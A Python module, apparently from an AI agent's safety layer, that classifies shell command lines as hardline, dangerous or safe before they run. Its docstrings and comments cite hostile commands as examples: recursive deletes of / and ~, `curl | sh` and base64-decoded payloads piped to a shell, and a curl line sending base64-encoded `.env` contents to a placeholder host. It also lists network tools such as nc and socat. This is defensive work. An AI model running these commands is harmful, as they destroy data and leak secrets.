"""Classify a shell command line before the agent runs it: hardline, dangerous or safe.

    >>> classify("rm -rf build/")
    Verdict(verdict='dangerous', reasons=('recursive delete: rm -rf build/',))

* hardline: never runs (wiping / or home, formatting disks, fork bombs, power-off, ...);
* dangerous: runs only after a person approves it (recursive deletes, force pushes, curl | sh, ...);
* safe: everything else.

How it works: a small shell lexer (`lexer`: quotes, backslashes, `$'..'`, `$IFS`, variables assigned
earlier in the line, `$(..)`, backticks, `<(..)`, heredocs, here-strings, comments) turns the
text into pipelines of simple commands, the way bash would split them. Each simple command
is normalised here (assignments, reserved words, `{ }` and wrappers such as sudo, env, nohup,
timeout, nice, xargs, find -exec are peeled off; argv[0] becomes its lower-cased basename)
and the rules (`rules/`, one module per category, filed by command name in `registry`) look at its
argv, never at the raw text, so `grep 'rm -rf' notes.txt` stays safe; each also learns whether it runs as root, whether its stdin is the
terminal, and what earlier commands of the line noted (a git remote added). Code that runs other code is followed: `sh -c`, `eval`,
`ssh host cmd`, `python -c`/`perl -e`/`node -e` one-liners, heredocs fed to shells,
interpreters and SQL clients, and literal payloads decoded on the way
(`echo .. | base64 -d | sh`). A pipeline is followed as data: what `echo`, `printf`,
`base64 -d`, `xxd -r -p`, `rev`, `tr`, `gunzip` or a downloader writes is known (or known to be
downloaded / decoded) when it reaches a shell. Within one line the guard also remembers the
working directory (`cd / && rm -rf *`), files downloaded (`curl -o x.sh ..; sh x.sh`) and
files written with known text (`echo .. > x.sh; bash x.sh`); it follows secrets read into a
pipe or `$(..)` to a command that sends them, and what `find`, `ps` and `dirname` print
(`find ~ | xargs rm -rf`, `ps -e | xargs kill -9`, `$(dirname $PWD)`). The worst part decides; every
hit is a reason, "rule: offending command (via how it was reached)". How code was handed to an
interpreter is named too (`Verdict.interpreted`): its text is scanned, but the paths it builds are known
only when it runs.

Limits, all failing closed (dangerous): input over 100 000 characters, nesting deeper than
10 levels, more than 1 MB analysed in total, and any internal error.

Choices: `sudo <safe command>` is safe (the guard judges effects, not privilege; pass
`strict_sudo=True` to require consent for any sudo) — but root changes some effects: a write can
destroy a file the system cannot boot without (hardline), a read see a whole raw disk, a signal
reach any process, a console act as another user (dangerous); `kill -0`, `kill PID` (SIGTERM) and
`pip uninstall` are safe; `kill -9`, killall, pkill and killing what a search found are dangerous; writes outside the
current directory are dangerous only in sensitive places (/etc, /usr, ~/.ssh, shell rc files,
cron, systemd, sudoers, ...); a relative `.bashrc` or `.ssh/...` counts as sensitive because
the agent often works in ~. Commands inside `docker exec`/`kubectl exec` are never worse
than dangerous, inside `docker run` with host paths mounted they keep their full weight on those
paths; commands sent over `ssh` or to a fleet keep their full weight (`ssh root@web1 reboot`, `pdsh -w n[1-9] reboot`
are hardline). `find -exec`, `xargs` and `parallel` act on many files, so a plain `rm` or `chmod` behind them counts
as recursive. Detaching on purpose is dangerous: `setsid`, `tmux new -d`, `screen -dm`, `systemd-run`, `at` leave the
process group the terminal kills when a command ends, so without a sandbox they outlive it; `nohup` stays in the
group but states the same intent (the project's corpus labels `nohup python app.py &` dangerous).
Package publishing (npm publish, twine upload, ...) is dangerous because it cannot be undone.
"""

from __future__ import annotations

import fnmatch
import re
import shlex
from dataclasses import dataclass
from typing import Iterator

from agent.safety.classifier.decode import DECODERS, b64, decode, decoding, printf, unescape
from agent.safety.classifier.flow import (EVERY_PID, PIDS_FOUND, SHELLS, dirname, expand_braces, find_output,
                                          keeps_every_line, lists_every_process, searches_processes)
from agent.safety.classifier.lazy import lazy_re
from agent.safety.classifier.lexer import Cmd, Lexer, Stream
from agent.safety.classifier.paths import GLOB, norm_path, secret_label, write_risk
from agent.safety.classifier.registry import RULE_NAMES, check
from agent.safety.classifier.rules.code import fork_bombs, scan_code
from agent.safety.classifier.rules.escapes import EXTRA_INTERP_OPTS, EXTRA_INTERPRETERS, escape
from agent.safety.classifier.rules.execution import PRIVILEGED, assignments, wrapped, wrapper_hits
from agent.safety.classifier.rules.exfil import SENDERS, pipeline_hits, private_source
from agent.safety.classifier.rules.host import vital
from agent.safety.classifier.rules.remote import reads_stdin
from agent.safety.classifier.rules.sql import scan_sql
from agent.safety.classifier.rules.tools import download_info
from agent.safety.classifier.vocabulary import ASSIGN, DANGEROUS, HARDLINE, SAFE, Call, Hit, parse
from agent.safety.classifier.wrappers import RUNNERS, WRAPPERS

__all__ = ["Verdict", "classify"]

MAX_LEN = 100_000
MAX_DEPTH = 10
MAX_WRAPPERS = 32  # wrappers peeled off one command (`sudo env nice timeout …`); past them it is dangerous
MAX_WORK = 1_000_000
_LEVELS = ("safe", "dangerous", "hardline")


@dataclass(frozen=True)
class Verdict:
    verdict: str  # "hardline" | "dangerous" | "safe"
    reasons: tuple[str, ...] = ()
    # code handed to an interpreter (`python3 -c`, the input of `perl`, a script file, awk that opens files
    # itself): scanned for what it names, but the paths it builds are known only when it runs
    interpreted: tuple[str, ...] = ()

    def as_dict(self) -> dict:
        return {"verdict": self.verdict, "reasons": list(self.reasons)}


def classify(command: str, *, strict_sudo: bool = False) -> Verdict:
    """The verdict for one command line. Never raises."""
    try:
        if isinstance(command, bytes):
            command = command.decode("utf-8", "replace")
        command = command if isinstance(command, str) else str(command)
        if len(command) > MAX_LEN:
            return Verdict("dangerous", (f"command too long to analyse: {len(command)} characters",))
        a = _Analysis()
        a.script(command, 0, (), {}, HARDLINE)
        if strict_sudo and a.sudo and not a.hits:
            a.hits.append((DANGEROUS, "runs with root privileges: sudo"))
    except Exception as exc:  # fail closed: a person decides
        return Verdict("dangerous", (f"could not analyse the command ({type(exc).__name__})",))
    level = max((lvl for lvl, _ in a.hits), default=SAFE)
    reasons = tuple(dict.fromkeys(r for lvl, r in sorted(a.hits, key=lambda h: -h[0]) if lvl > SAFE))
    return Verdict(_LEVELS[level], reasons, tuple(dict.fromkeys(a.interpreted)))


# ---------------------------------------------------------------- analysis

INTERPRETERS = {"perl": "perl", "perl5": "perl", "ruby": "ruby", "node": "node", "nodejs": "node", "bun": "node",
                "php": "php", "lua": "lua", "luajit": "lua", "osascript": "applescript", "awk": "awk", "gawk": "awk",
                "mawk": "awk", "nawk": "awk", **EXTRA_INTERPRETERS}
# lang: (letters giving code, long names giving code, short options taking a value, "run a module" flag)
_INTERP_OPTS = {"python": ("c", (), "cmWXQ", "m"), "perl": ("eE", (), "eEIMmlxC", ""), "ruby": ("e", (), "eIrECx", ""),
                "node": ("ep", ("eval", "print"), "epr", ""), "php": ("r", (), "rdcfzBERFt", ""),
                "lua": ("e", (), "el", ""), "awk": ("", (), "fvF", ""), **EXTRA_INTERP_OPTS}
# awk that opens a file or a command it names itself, or loads code: `getline <`, `ARGV`, `print >`, `@load`
_AWK_OPENS = lazy_re(r"getline|\bARGV\b|\bENVIRON\b|\bprintf?\b[^;{}\n]*>|@load|@include")
DOWNLOADERS = frozenset("curl wget fetch aria2c http https xh nc ncat netcat socat telnet".split())
_PRIVILEGED = PRIVILEGED


def _rooted(via: tuple) -> bool:
    """Whether what is reached this way runs as root: under sudo & co, on ssh root@, in a root container."""
    return any(v.split(" ", 1)[0] in _PRIVILEGED or v.startswith("ssh root@") or v.endswith(" as root") for v in via)


_RESERVED = frozenset("{ } ! then do else elif if while until time fi done esac coproc".split())
KNOWN = RULE_NAMES | SHELLS | set(INTERPRETERS) | set(WRAPPERS) | DOWNLOADERS | {
    "python", "python3", "eval", "source", "xargs", "ssh", "echo", "printf", "cat"}
_DYNAMIC = lazy_re(r"\s*\$\{?[A-Za-z_@*0-9]")
_PLAIN = lazy_re(r"[\w@%+=:,./~*?\[\]{}$!^#()…-]+")
_ORIGIN = {"download": "downloaded code", "decode": "decoded payload", "printf": "printf output the check cannot compute"}


def show(argv) -> str:
    s = " ".join(a if _PLAIN.fullmatch(a) else shlex.quote(a) for a in argv)
    return s if len(s) <= 200 else s[:197] + "..."


def _name(word: str) -> str:
    base = word.rstrip("/").rsplit("/", 1)[-1].lower() if "/" in word.rstrip("/") else word.lower()
    if "$" in base:
        stripped = re.sub(r"\$\{[^}]*\}|\$[A-Za-z_]\w*", "", base)
        if stripped in KNOWN:
            return stripped
    m = re.fullmatch(r"(?:python|pypy)[\d.]*(?:-\w+)?|(lua|perl|ruby|php|tclsh|wish)[\d.]+", base)
    return (m.group(1) or "python") if m else base[:-4] if base.endswith(".exe") else base


class _Analysis:
    def __init__(self) -> None:
        self.hits: list[tuple[int, str]] = []
        self.budget = MAX_WORK
        self.downloads: set[str] = set()
        self.sudo = False
        self.last_name = ""
        self.cwd: str | None = None
        self.scripts: dict[str, str] = {}  # files this command line writes with known text
        self.links: dict[str, str] = {}  # ln -s ~ h: a name this line made for a directory → that directory
        self.decoded: set[str] = set()  # files this command line writes with decoded output
        self.memo: dict = {}  # what rules note for later commands of the line (git remotes added)
        self.interpreted: list[str] = []  # how code was handed to an interpreter (`Verdict.interpreted`)

    def hit(self, level: int, rule: str, part: str, via: tuple, cap: int) -> None:
        part = " ".join(part.split())
        part = part if len(part) <= 200 else part[:197] + "..."
        self.hits.append((min(level, cap), f"{rule}: {part}" + (f" (via {' -> '.join(via)})" if via else "")))

    def take(self, findings: Iterator, cmd: Cmd | None, stdin: Stream, depth: int, via: tuple, env: dict,
             cap: int) -> None:
        for f in findings:
            if isinstance(f, Hit):
                self.hit(f.level, f.rule, f.part, via, cap)
            elif f.kind == "shell":
                self.script(str(f.payload), depth + 1, via + (f.via,), dict(env), min(cap, f.cap))
            elif f.kind == "argv":
                self.run_argv(list(f.payload), cmd or Cmd(), stdin, depth + 1, via + (f.via,), env,
                              min(cap, f.cap), bulk=f.bulk)
            elif f.kind == "code":
                self.code(f.lang, str(f.payload), depth + 1, via + (f.via,), env, cap)
            elif f.kind == "sql":
                self.take(scan_sql(str(f.payload)), cmd, stdin, depth, via + (f.via,), env, cap)

    def script(self, text: str, depth: int, via: tuple, env: dict, cap: int) -> Stream:
        if depth > MAX_DEPTH:
            self.hit(DANGEROUS, "too deeply nested to analyse", text, via, cap)
            return Stream()
        self.budget -= len(text) + 1
        if self.budget < 0:
            self.hit(DANGEROUS, "too complex to analyse", text, via, cap)
            return Stream()
        for bomb in fork_bombs(text):
            self.hit(HARDLINE, "fork bomb", bomb, via, cap)
        lexer = Lexer(text, env, lambda inner: self.script(inner, depth + 1, via + ("$(…)",), dict(env), cap))
        last = Stream()
        for pipe in lexer.run():
            last = self.pipeline(pipe, depth, via, env, cap)
        return last

    def code(self, lang: str, code: str, depth: int, via: tuple, env: dict, cap: int) -> None:
        if lang != "awk" or _AWK_OPENS.search(code):
            self.interpreted.append(via[-1] if via else lang)
        if depth > MAX_DEPTH:
            self.hit(DANGEROUS, "too deeply nested to analyse", code, via, cap)
            return
        self.budget -= len(code) + 1
        if self.budget >= 0:
            self.take(scan_code(lang, code, b64), None, Stream(), depth, via, env, cap)

    def pipeline(self, cmds: list, depth: int, via: tuple, env: dict, cap: int) -> Stream:
        stream, names = Stream(), []
        for k, cmd in enumerate(cmds):
            stdin = stream if k else Stream()
            if cmd.stdin_set or cmd.stdin_text is not None:
                stdin = Stream(cmd.stdin_text, cmd.stdin_origin, cmd.stdin_desc)
            self.last_name = ""
            stream = self.simple(cmd, stdin, depth, via, env, cap)
            names.append(self.last_name)
            for op, target in cmd.redirs:
                if op in (">", ">>", ">|"):
                    base = target.rsplit("/", 1)[-1]
                    if stream.origin == "decode":  # base64 -d > x.sh; ./x.sh
                        self.decoded.add(base)
                    if stream.text is not None:  # echo 'rm -rf /' > x.sh; sh x.sh
                        self.scripts[base] = (self.scripts.get(base, "") if op == ">>" else "") + stream.text
                    else:
                        self.scripts.pop(base, None)
                    stream = Stream()
        flows = len(cmds) > 1 or via[-1:] == ("$(…)",)  # (a lone command's output reaches only the model)
        sources = [(k, label) for k, c in enumerate(cmds) if (label := private_source(c.words, c.redirs, flows))]
        for level, rule, part in pipeline_hits(cmds, names, sources, lambda: " | ".join(show(c.words) for c in cmds)):
            self.hit(level, rule, part, via, cap)
        return Stream(stream.text, stream.origin, stream.desc, sources[0][1], stream.every) if sources else stream

    def simple(self, cmd: Cmd, stdin: Stream, depth: int, via: tuple, env: dict, cap: int) -> Stream:
        for op, target in cmd.redirs:
            target = self._through_links(target)
            risk = write_risk(target) if op != "<" or target.startswith("/dev/tcp/") else None
            if op in (">", ">|") and vital(target) and _rooted(via):  # a root shell empties it (sudo sh -c '> f')
                risk = (HARDLINE, "destroys a file the system needs to boot or to let anyone log in")
            if risk:
                self.hit(risk[0], risk[1], f"{show(cmd.words)} {op} {target}".strip(), via, cap)
        if cmd.exec_origin:
            self.hit(DANGEROUS, f"{_ORIGIN[cmd.exec_origin]} run as a command", show(cmd.words), via, cap)
        for op, target in cmd.redirs:
            if op in ("<", "<>") and (label := secret_label(target)):
                self.hit(DANGEROUS, f"reads {label}", f"{show(cmd.words)} < {target}".strip(), via, cap)
        if cmd.hidden_name:
            self.hit(DANGEROUS, f"a command whose name the check cannot see ({cmd.hidden_name})", show(cmd.words),
                     via, cap)
        if cmd.hidden_code:
            self.hit(DANGEROUS, f"prompt expansion runs the commands a value holds, which the check cannot see "
                     f"({cmd.hidden_code})", show(cmd.words), via, cap)
        if not cmd.words:
            return Stream(stdin.text, stdin.origin, stdin.desc) if cmd.stdin_set else Stream()
        out = self.run_argv(list(cmd.words), cmd, stdin, depth, via, env, cap)
        secret = next((st.secret for st in cmd.subs if st.secret), None)
        if secret and self.last_name in SENDERS:  # curl "https://x/?d=$(cat .env | base64)"
            self.hit(DANGEROUS, f"sends {secret} to the network", show(cmd.words), via, cap)
        return out

    def prefix(self, argv: list, env: dict) -> list:
        seen = set()
        while argv:
            w = argv[0]
            if w in _RESERVED:
                argv = argv[2:] if w == "time" and argv[1:2] == ["-p"] else argv[1:]
            elif w == "function":
                argv = [a for a in argv[2:] if a not in ("{", "()")]
            elif ASSIGN.match(w):
                argv = argv[1:]
            elif re.fullmatch(r"\{[^{}]*,[^{}]*\}", w):
                argv = [x for x in w[1:-1].split(",") if x] + argv[1:]
            elif "alias " + w in env and w not in seen:
                seen.add(w)
                argv = _split(env["alias " + w]) + argv[1:]
            else:
                break
        return argv

    def unwrap(self, name: str, argv: list) -> list | str | None:
        """The command a wrapper runs: an argv, a shell string, or None when it runs nothing."""
        short, long, skip = WRAPPERS[name]
        if (special := wrapped(name, argv)) is not True or name == "su" and {"--help", "-h", "-V"} & set(argv):
            return special if special is not True else None
        if name in ("su", "flock", "sg"):  # options may follow the user / lock file
            for k, a in enumerate(argv[1:-1], start=1):
                if a in ("-c", "--command"):
                    self.sudo = self.sudo or name == "su"
                    return argv[k + 1]
            if name == "su":
                self.sudo = True
                return ["sh"]
        o = parse(argv[1:], short, long, stop=True)
        if name in _PRIVILEGED:
            self.sudo = True
        if name == "command" and o.has("v", "V"):
            return None
        if name == "env" and o.val("S", "split-string"):
            return _split(o.val("S", "split-string")) + o.rest
        code = o.val("c", "command", "run") if name in ("runuser", "nix-shell") else None
        if code is not None:
            return code
        if name == "watch":
            return " ".join(o.rest) if o.rest else None
        rest = o.rest[skip:]
        if not rest and (name in ("sudo", "doas", "sudo-rs") and o.has("i", "s", "login", "shell") or name == "run0"):
            return ["sh"]
        return rest or None

    def peel(self, argv: list, cmd: Cmd, stdin: Stream, depth: int, via: tuple, env: dict,
             cap: int) -> tuple[list, str, tuple, bool] | None:
        """The command a line of wrappers runs (`sudo env X=1 nice timeout 5 uv run …`): each wrapper
        judged on its way and peeled off, up to `MAX_WRAPPERS` of them. (argv, the command's name, via, whether
        one raised privilege), or None when what is left runs nothing this check can follow further (a script
        given as text is judged here) — or more wrappers are left than it peels: that is dangerous, since the
        command they run is not judged (`nice nice … rm -rf /`)."""
        sudo = False
        for peeled in range(MAX_WRAPPERS + 1):
            if argv and ASSIGN.match(argv[0]):  # PAGER=…, LD_PRELOAD=…: variables that make programs run code
                self.take(assignments([a for a in argv if ASSIGN.match(a)], show(argv)), cmd, stdin, depth, via,
                          env, cap)
            argv = self.prefix(argv, env)
            if not argv:
                return None
            name = _name(argv[0])
            wraps = name in RUNNERS and argv[1:2] == [RUNNERS[name]] or name in WRAPPERS and not (
                name in ("time", "command", "exec", "builtin") and len(argv) == 1)
            if wraps and peeled == MAX_WRAPPERS:
                self.hit(DANGEROUS, "too many wrappers in a row to analyse", show(argv), via, cap)
                return None
            if name in RUNNERS and argv[1:2] == [RUNNERS[name]]:
                o = parse(argv[2:], "np", ("with", "python", "env-file", "project", "directory", "package",
                                                 "extra", "group", "index", "name", "prefix"), stop=True)
                argv, via = o.rest, via + (f"{name} {RUNNERS[name]}",)
                continue
            if not wraps:
                break
            nxt = self.unwrap(name, argv)  # (what it runs; and a wrapper's own risk: detaching, chroot, an escape)
            self.take(wrapper_hits(name, argv, show(argv), nxt, not (cmd.stdin_set or stdin.desc or stdin.text is not
                                                                     None)), cmd, stdin, depth, via, env, cap)
            sudo = sudo or name in _PRIVILEGED
            if isinstance(nxt, str):
                self.script(nxt, depth + 1, via + (name,), dict(env), cap)
                return None
            if nxt is None:
                return None
            argv, via = nxt, via + (name,)
        return argv, name, via, sudo

    def run_argv(self, argv: list, cmd: Cmd, stdin: Stream, depth: int, via: tuple, env: dict, cap: int,
                 bulk: bool = False) -> Stream:
        if depth > MAX_DEPTH:
            self.hit(DANGEROUS, "too deeply nested to analyse", show(argv), via, cap)
            return Stream()
        peeled = self.peel(argv, cmd, stdin, depth, via, env, cap)
        if peeled is None:
            return Stream()
        argv, name, via, sudo = peeled
        if GLOB.search(name):
            for cand in sorted(n for n in KNOWN if fnmatch.fnmatchcase(n, name)):
                self.run_argv([cand] + argv[1:], cmd, stdin, depth + 1, via + (f"glob {argv[0]}",), env, cap, bulk)
            return Stream()
        if name.startswith("$") and argv[1:2] == ["-c"]:  # $SHELL -c '...'
            name = "sh"
        self.last_name = name
        args, shown = argv[1:], show([name] + argv[1:])
        if "/" in argv[0]:
            self.file_exec(argv[0], "shell", show(argv), depth, via, env, cap)
        inner: Stream | None = None  # what xargs / parallel print is what the commands they run print
        if name in ("cd", "pushd"):
            target = next((a for a in args if not a.startswith("-") or a == "-"), "~")
            self.cwd = (norm_path(target) if target.startswith(("/", "~", "$HOME", "${HOME}")) else
                        norm_path(self.cwd + "/" + target) if self.cwd and target != "-" else None)
        elif name == "trap" and len(args) >= 2 and not args[0].startswith("-"):
            self.script(args[0], depth + 1, via + ("trap",), dict(env), cap)
        elif name == "parallel" and ":::" in args:
            o = parse(args[:args.index(":::")], "jSPn", ("jobs", "sshlogin", "delay"), stop=True)
            items = [a for a in args[args.index(":::") + 1:] if a not in (":::", "::::")][:64]
            inner = self.run_argv(o.rest + items, cmd, Stream(), depth + 1, via + ("parallel",), env, cap, bulk=True)
        elif name in SHELLS:
            self.shell(name, args, cmd, stdin, shown, depth, via, env, cap, sudo)
        elif name in ("eval", "source", "."):
            code = " ".join(args) if name == "eval" else None
            self.exec_checks(cmd, code, shown, via, cap)
            if code is not None:
                self.script(code, depth + 1, via + ("eval",), dict(env), cap)
            elif args and args[0] in ("/dev/stdin", "-"):
                self.stdin_exec(name, "shell", stdin, shown, depth, via, env, cap, False)
            elif args:
                self.file_exec(args[0], "shell", shown, depth, via, env, cap)
        elif name == "python" or name in INTERPRETERS:
            self.take(check(self.call(name, args, argv[0], bulk, stdin, cmd, via, sudo)), cmd, stdin, depth, via,
                      env, cap)
            self.interpreter(name, INTERPRETERS.get(name, "python"), args, cmd, stdin, shown, depth, via, env, cap)
        elif name == "deno" and args[:1] == ["eval"] and len(args) > 1:
            self.code("node", args[1], depth + 1, via + ("deno eval",), env, cap)
        elif name == "xargs":
            inner = self.xargs(args, cmd, stdin, shown, depth, via, env, cap)
        elif name == "ssh":
            self.ssh(args, cmd, stdin, shown, depth, via, env, cap)
        elif name in ("at", "batch") and stdin.text:
            self.hit(DANGEROUS, f"starts something that outlives the command ({name})", shown, via, cap)
            self.script(stdin.text, depth + 1, via + (name,), dict(env), cap)
        else:
            where = f" (in {self.cwd})" if self.cwd else ""
            targets = [a for a in args if not a.startswith("-")]
            args = expand_braces([self._through_links(a) for a in args])
            if name == "ln" and {"-s", "-sf", "-sfn", "-sn", "--symbolic"} & set(args) and len(targets) == 2:
                self.links[targets[1].rstrip("/")] = targets[0]
            self.take(check(self.call(name, args, argv[0], bulk, stdin, cmd, via, sudo, shown + where)), cmd,
                      stdin, depth, via, env, cap)
        out = self.stdout(name, args, stdin, shown, cmd)
        if inner is not None and inner.origin and not out.origin:  # `… | xargs curl | sh`: a download run
            return Stream(None, inner.origin, out.desc)
        return out

    def xargs(self, args: list, cmd: Cmd, stdin: Stream, shown: str, depth: int, via: tuple, env: dict,
              cap: int) -> Stream:
        """xargs runs its command with words read from stdin: judged with the words it is fed (what it
        prints is what that command prints)."""
        o = parse(args, "ILnPsdEa", ("max-args", "max-procs", "delimiter", "arg-file", "replace", "eof",
                                     "max-lines", "max-chars", "process-slot-var"), stop=True)
        if stdin.origin:
            self.hit(DANGEROUS, f"{_ORIGIN[stdin.origin]} fed to xargs", f"{stdin.desc} | {shown}", via, cap)
        sep = "\0" if o.has("0", "null") else (o.val("d", "delimiter") or None)
        extra = [w for w in (stdin.text or "").split(unescape(sep) if sep else None) if w.strip()][:64]
        rep = o.val("I", "replace")
        sub = o.rest or ["echo"]
        extra = [EVERY_PID] if stdin.every and stdin.text is None else extra
        if rep and not extra and stdin.text is None:  # ls ~ | xargs -I{} rm -rf ~/{}: {} is any name
            sub = [w.replace(rep, "*") for w in sub]
        elif rep and extra:
            sub = [w.replace(rep, extra[0]) for w in sub]
        elif extra:
            sub = sub + extra
        return self.run_argv(sub, cmd, Stream(), depth + 1, via + ("xargs",), env, cap,
                             bulk=stdin.text is None or stdin.every)

    def ssh(self, args: list, cmd: Cmd, stdin: Stream, shown: str, depth: int, via: tuple, env: dict,
            cap: int) -> None:
        """ssh's own risk, and the script it runs on the other host (given as words, or fed on stdin)."""
        self.take(check(Call("ssh", list(args), shown)), cmd, stdin, depth, via, env, cap)
        o = parse(args, "BbcDEeFIiJLlmOopQRSWw", stop=True)
        if len(o.rest) > 1:
            self.script(" ".join(o.rest[1:]), depth + 1, via + (f"ssh {o.rest[0]}",), {}, cap)
        unseen = " ".join(o.rest[1:2]).startswith("$(…)")  # ssh host "$(cat setup.sh)"
        if o.rest and (len(o.rest) == 1 or reads_stdin(o.rest[1:]) or unseen):  # ssh host 'bash -s' < setup.sh
            if stdin.text:
                self.script(stdin.text, depth + 1, via + (f"stdin of ssh {o.rest[0]}",), {}, cap)
            elif unseen or stdin.desc or any(op == "<" and t != "/dev/null" for op, t in cmd.redirs):
                self.hit(DANGEROUS, "runs a script the check cannot read on another host", f"{stdin.desc} | {shown}"
                         if stdin.desc else shown + "".join(f" < {t}" for op, t in cmd.redirs if op == "<"), via, cap)
        self.last_name = "ssh"  # (what ran on the other host is not what this pipeline sends to)

    def call(self, name: str, args: list, raw0: str, bulk: bool, stdin: Stream, cmd: Cmd, via: tuple, sudo: bool,
             shown: str = "") -> Call:
        """A simple command as the rules see it, with what the line around it says: privilege, stdin, memo."""
        terminal = not (cmd.stdin_set or stdin.desc or stdin.text is not None) and all(v in WRAPPERS for v in via)
        return Call(name, list(args), shown or show([name, *args]), raw0, bulk, stdin.text, self.cwd,
                    sudo or _rooted(via), "" if terminal else stdin.origin or "input", self.memo)

    def _through_links(self, arg: str) -> str:
        """`h/.bashrc` after `ln -s ~ h` is `~/.bashrc`: a link this line made does not hide where a write goes."""
        head, sep, tail = arg.partition("/")
        return f"{self.links[head].rstrip('/')}/{tail}" if sep and head in self.links else self.links.get(arg, arg)

    def file_exec(self, path: str, lang: str, shown: str, depth: int, via: tuple, env: dict, cap: int) -> None:
        """Running a file this same command line downloaded or wrote."""
        base = path.rsplit("/", 1)[-1]
        if base in self.downloads or base in self.decoded:
            self.hit(DANGEROUS, "download then execute" if base in self.downloads else "decoded payload executed",
                     shown, via, cap)
        if base in self.scripts:
            if lang == "shell":
                self.script(self.scripts[base], depth + 1, via + (f"script {base}",), dict(env), cap)
            else:
                self.code(lang, self.scripts[base], depth + 1, via + (f"script {base}",), env, cap)

    def exec_checks(self, cmd: Cmd, code: str | None, shown: str, via: tuple, cap: int) -> None:
        for st in cmd.subs:
            if st.origin:
                self.hit(DANGEROUS, f"{_ORIGIN[st.origin]} executed", f"{shown}, running the output of {st.desc}",
                         via, cap)
        if code is not None and _DYNAMIC.match(code):
            self.hit(DANGEROUS, "execution of a dynamic string", shown, via, cap)

    def stdin_exec(self, name: str, lang: str, stdin: Stream, shown: str, depth: int, via: tuple, env: dict,
                   cap: int, sudo: bool) -> None:
        part = f"{stdin.desc} | {shown}" if stdin.desc else shown
        kind = "shell" if lang == "shell" else lang
        if stdin.origin:
            self.hit(DANGEROUS, f"{_ORIGIN[stdin.origin]} piped to {kind}", part, via, cap)
        if stdin.text is not None:
            if lang == "shell":
                self.script(stdin.text, depth + 1, via + (f"stdin of {name}",), dict(env), cap)
            else:
                self.code(lang, stdin.text, depth + 1, via + (f"stdin of {name}",), env, cap)
        elif not stdin.origin and (rule := "interactive root shell" if sudo and lang == "shell" else escape(via)):
            self.hit(DANGEROUS, rule, shown, via, cap)

    def shell(self, name: str, args: list, cmd: Cmd, stdin: Stream, shown: str, depth: int, via: tuple, env: dict,
              cap: int, sudo: bool) -> None:
        o = parse(args, "oO", ("rcfile", "init-file"), stop=True)
        if "c" in o.flags:
            code = o.rest[0] if o.rest else ""
            penv = dict(env)
            penv.update({str(k): v for k, v in enumerate(o.rest[1:])})
            penv["@"] = " ".join(o.rest[2:])
            self.exec_checks(cmd, code, shown, via, cap)
            self.script(code, depth + 1, via + (f"{name} -c",), penv, cap)
        elif not o.rest or o.rest[0] in ("-", "/dev/stdin") or "s" in o.flags:
            self.exec_checks(cmd, None, shown, via, cap)
            self.stdin_exec(name, "shell", stdin, shown, depth, via, env, cap, sudo)
        else:
            self.exec_checks(cmd, None, shown, via, cap)
            self.script_file(name, o.rest[0])
            self.file_exec(o.rest[0], "shell", shown, depth, via, env, cap)

    def interpreter(self, name: str, lang: str, args: list, cmd: Cmd, stdin: Stream, shown: str, depth: int,
                    via: tuple, env: dict, cap: int) -> None:
        code_short, code_long, values, module = _INTERP_OPTS[lang]
        o = parse(args, values, code_long + ("require", "import", "loader", "input-type"), stop=lang != "awk")
        codes = [v for k in code_short for v in o.vals.get(k, [])] + [v for k in code_long for v in o.longs.get(k, [])]
        script = o.rest[0] if o.rest else (o.pos[0] if o.pos else None)
        if lang == "awk" and not o.has("f"):
            codes, script = o.pos[:1], None
        if codes:
            self.exec_checks(cmd, codes[0], shown, via, cap)
            for code in codes:
                self.code(lang, code, depth + 1, via + (f"{name} code",), env, cap)
        elif (module and o.has(module)) or lang == "awk":
            return
        elif script is None or script in ("-", "/dev/stdin"):
            self.exec_checks(cmd, None, shown, via, cap)
            if stdin.text is None and (cmd.stdin_set or stdin.desc or stdin.origin):
                self.interpreted.append(f"the input of {name}")
            self.stdin_exec(name, lang, stdin, shown, depth, via, env, cap, False)
        else:
            self.exec_checks(cmd, None, shown, via, cap)
            self.script_file(name, script)
            self.file_exec(script, lang, shown, depth, via, env, cap)

    def script_file(self, name: str, path: str) -> None:
        """A script handed to an interpreter from outside the working folder (a relative one in it is shown to
        a person by `agent.safety.workspace_code`)."""
        if path.startswith(("/", "~", "$")) or ".." in path.split("/"):
            self.interpreted.append(f"{name} {path}")

    def stdout(self, name: str, args: list, stdin: Stream, shown: str, cmd: Cmd) -> Stream:
        desc = f"{stdin.desc} | {shown}" if stdin.desc else shown
        if name == "echo":
            flags = ""
            while args and re.fullmatch(r"-[neE]+", args[0]):
                flags, args = flags + args[0], args[1:]
            text = " ".join(args)
            return Stream(unescape(text) if "e" in flags else text, None, desc)
        if name == "printf":
            printed = printf(args)
            return Stream(printed, None if printed is not None else "printf", desc)
        if name in ("cat", "tee") and (name == "tee" or all(a == "-" or a.startswith("-") for a in args)):
            return Stream(stdin.text, stdin.origin, desc)
        if name in ("which", "type") and args:
            return Stream(args[-1].rsplit("/", 1)[-1], None, desc)
        if name in ("find", "dirname", "pwd") and (text := find_output(args) if name == "find" else
                                                   dirname(args[0]) if name == "dirname" and args else "$PWD"):
            return Stream(text, None, desc, every=name == "find")
        if lists_every_process(name, args) or stdin.every and keeps_every_line(name, args):
            return Stream(None, None, desc, every=True)
        if searches_processes(name, args, stdin.every and stdin.text is None or stdin.text == PIDS_FOUND):
            return Stream(PIDS_FOUND, None, desc)
        if name in DECODERS and decoding(name, args):
            text = decode(name, args, stdin.text) if stdin.text is not None else None
            return Stream(text, stdin.origin or "decode", desc)
        if name in DOWNLOADERS:
            to_stdout, files = download_info(name, args)
            redirected = [t for op, t in cmd.redirs if op in (">", ">>", ">|")]
            self.downloads.update(f.rsplit("/", 1)[-1] for f in files + (redirected if to_stdout else []))
            if to_stdout:
                return Stream(None, "download", desc)
        return Stream(None, stdin.origin, desc)


def _split(text: str) -> list[str]:
    try:
        return shlex.split(text)
    except ValueError:
        return text.split()
